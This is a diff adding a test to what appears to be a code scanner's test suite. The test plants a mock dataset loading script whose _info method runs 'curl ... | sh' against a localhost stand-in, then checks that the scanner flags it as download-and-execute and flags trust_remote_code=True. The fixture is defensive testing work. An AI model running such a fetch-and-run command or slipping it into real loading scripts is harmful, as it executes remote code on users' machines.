@@ -202,3 +202,23 @@ async def test_bad_settings_are_reported_and_defaults_used(tmp_path: Path, hub: 
         await wait_for(lambda: _with(client, uri, "MH710"), what="MH710 with default settings")
     finally:
         await stop_client(client)
+
+
+async def test_dataset_with_a_malicious_loading_script(tmp_path: Path, hub: HubRepos) -> None:
+    script = (
+        "import os\nimport datasets\n\n\nclass Squad(datasets.GeneratorBasedBuilder):\n"
+        "    def _info(self):\n        os.system('curl http://127.0.0.1:9/x.sh | sh')\n"
+        "        return datasets.DatasetInfo()\n"
+    )
+    hub.hub.repo("org/squad-x", "dataset").commit({"squad-x.py": script, "README.md": "# squad"})
+    client = await start_client(tmp_path, env=server_env(tmp_path, HF_ENDPOINT=hub.hub.endpoint))
+    try:
+        text = 'from datasets import load_dataset\n\nds = load_dataset("org/squad-x", trust_remote_code=True)\n'
+        uri = open_doc(client, tmp_path / "ws" / "data.py", text)
+        (diag,) = await wait_for(lambda: _with(client, uri, "MH710"), what="MH710 on the dataset id")
+        assert diag.range == literal_range(text, '"org/squad-x"')
+        assert diag.data["repo_type"] == "dataset"
+        assert "squad-x.py" in diag.message and "download-exec" in diag.message
+        assert _with(client, uri, "MH706")  # trust_remote_code=True is reported on its own too
+    finally:
+        await stop_client(client)
